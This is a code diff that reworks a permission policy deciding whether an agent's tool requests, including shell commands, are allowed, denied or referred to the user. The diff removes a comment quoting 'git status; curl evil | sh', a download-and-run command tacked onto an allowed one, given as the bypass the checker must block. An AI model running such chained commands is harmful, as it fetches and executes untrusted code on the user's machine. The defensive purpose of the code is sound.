@@ -6,14 +6,14 @@ cannot ask (no terminal) treats "ask" as "deny" and tells the model why, so it n
 """
 
 import fnmatch
-import re
 from collections.abc import Mapping
 from enum import StrEnum
+from pathlib import Path
 from typing import Literal
 
 import msgspec
 
-Action = Literal["allow", "deny", "ask"]
+from .command_rules import Action, judge
 
 
 class AccessMode(StrEnum):
@@ -51,14 +51,6 @@ _MODE_DEFAULTS: dict[AccessMode, dict[str, Action]] = {
 }
 
 
-_COMMAND_SEPARATORS = re.compile(r"\|\||&&|[;|&\n()`]|\$\(")
-
-
-def command_segments(command: str) -> list[str]:
-    """The simple commands inside a shell command line (split on ; && || | & newlines and substitutions)."""
-    return [part.strip() for part in _COMMAND_SEPARATORS.split(command) if part.strip()]
-
-
 class PermissionPolicy:
     """Decides allow/deny/ask for a request; remembers "always" answers for the session."""
 
@@ -67,33 +59,41 @@ class PermissionPolicy:
         self.rules = {tool: list(patterns.items()) for tool, patterns in (rules or {}).items()}
         self._always: set[tuple[str, str]] = set()
 
-    def _rule(self, request: PermissionRequest, subject: str) -> Action | None:
-        """The last matching rule for the tool's kind or name (e.g. `external_directory`, `bash`)."""
+    def _patterns(self, kind: str, tool: str) -> list[tuple[str, Action]]:
+        """The rules for a kind, then for the tool's name (e.g. `external_directory`, `bash`), in order."""
+        return [*self.rules.get(kind, []), *(self.rules.get(tool, []) if tool != kind else [])]
+
+    def _last_match(self, subject: str, kind: str, tool: str) -> Action | None:
         decision: Action | None = None
-        for key in (request.kind, request.tool):
-            for pattern, action in self.rules.get(key, []):
-                if fnmatch.fnmatchcase(subject, pattern):
-                    decision = action
+        for pattern, action in self._patterns(kind, tool):
+            if fnmatch.fnmatchcase(subject, pattern):
+                decision = action
         return decision
 
-    def decide(self, request: PermissionRequest) -> Action:
+    def decide(self, request: PermissionRequest, *, workspace: Path | None = None, cwd: Path | None = None) -> Action:
+        """allow/deny/ask for ``request``; ``workspace`` and ``cwd`` tell where a command's redirections land."""
         if request.kind == "execute":
-            # A rule allowing "git status*" must not allow "git status; curl evil | sh": every part of a
-            # compound command must be allowed, and any denied part denies the whole.
-            parts = command_segments(request.subject) or [request.subject]
-            decisions = [self._rule(request, part) for part in parts]
-            if "deny" in decisions or self._rule(request, request.subject) == "deny":
-                return "deny"
-            if all(d == "allow" for d in decisions):
-                return "allow"
-            decision: Action | None = "ask" if "ask" in decisions else None
+            decision = self._command(request, workspace, cwd)
         else:
-            decision = self._rule(request, request.subject)
-        if decision is not None:
+            decision = self._last_match(request.subject, request.kind, request.tool)
+        if decision == "allow" or decision == "deny":
             return decision
         if (request.tool, request.subject) in self._always or (request.tool, "*") in self._always:
-            return "allow"
-        return _MODE_DEFAULTS[self.mode][request.kind]
+            return "allow"  # the user saw this exact subject (or chose the whole tool) and said "always"
+        return decision or _MODE_DEFAULTS[self.mode][request.kind]
+
+    def _command(self, request: PermissionRequest, workspace: Path | None, cwd: Path | None) -> Action | None:
+        """Rules see the commands a line runs and the files it writes, not its spelling (see command_rules)."""
+        patterns = self._patterns(request.kind, request.tool)
+        edit_rules = self.rules.get("edit", [])
+        if not patterns and not edit_rules:
+            return None  # nothing to match: no need to parse
+
+        def edit_verdict(path: str) -> Action:  # a redirection into the workspace edits that file
+            return self._last_match(path, "edit", "edit") or _MODE_DEFAULTS[self.mode]["edit"]
+
+        strict = any(action == "deny" for _, action in [*patterns, *edit_rules])
+        return judge(request.subject, patterns, workspace=workspace, cwd=cwd, edit_verdict=edit_verdict, strict=strict)
 
     def remember(self, request: PermissionRequest, *, whole_tool: bool = False) -> None:
         """The user answered "always": allow this (or every) subject for this tool from now on."""
